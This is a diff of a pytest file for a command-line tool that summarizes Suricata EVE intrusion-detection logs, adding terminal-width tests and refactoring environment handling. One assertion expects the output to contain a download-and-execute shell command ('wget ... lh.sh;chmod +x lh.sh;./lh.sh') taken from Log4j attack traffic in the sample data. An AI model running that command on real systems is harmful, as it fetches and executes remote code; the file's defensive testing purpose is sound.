@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import gzip
 import json
+import os
 import subprocess
 import sys
 from typing import TYPE_CHECKING
@@ -30,10 +31,15 @@ EVENT = {
 }
 
 
-def run(*args: object, **options: object) -> subprocess.CompletedProcess[str]:
+def run(*args: object, **variables: str) -> subprocess.CompletedProcess[str]:
     command = [sys.executable, "-m", "suricata_eve", *map(str, args)]
     return subprocess.run(
-        command, capture_output=True, text=True, check=False, timeout=120, **options
+        command,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=120,
+        env=os.environ | {"COLUMNS": "100"} | variables,
     )
 
 
@@ -52,8 +58,15 @@ def test_without_a_file_it_summarizes_the_sample_on_one_page() -> None:
     assert lines[0].startswith("9,722 events of 20 types")
     assert "2022-01-01 00:07:17 to 2022-01-03 23:48:10 UTC" in lines[1]
     assert "863 alerts" in done.stdout
-    assert "Flows with Log4j alerts (86 flows" in done.stdout
+    assert "Flows with Log4j alerts (87 flows" in done.stdout
     assert "wget http://203.0.113.77/lh.sh;chmod +x lh.sh;./lh.sh" in done.stdout
+
+
+@pytest.mark.parametrize(("columns", "width"), [("20", 80), ("80", 80), ("91", 91), ("300", 100)])
+def test_it_fits_the_terminal_between_80_and_100_columns(columns: str, width: int) -> None:
+    lines = run(COLUMNS=columns).stdout.splitlines()
+
+    assert width - 5 < max(map(display_width, lines)) <= width
 
 
 def test_it_reads_several_files_as_one_compressed_or_not(tmp_path: Path) -> None:
@@ -173,7 +186,7 @@ def test_a_reader_that_has_seen_enough_ends_it_quietly() -> None:
 
 
 def test_a_terminal_without_unicode_gets_escapes() -> None:
-    done = run(env={"PYTHONIOENCODING": "ascii", "PATH": ""})
+    done = run(PYTHONIOENCODING="ascii")
 
     assert (done.returncode, done.stderr) == (0, "")
     assert done.stdout.isascii()
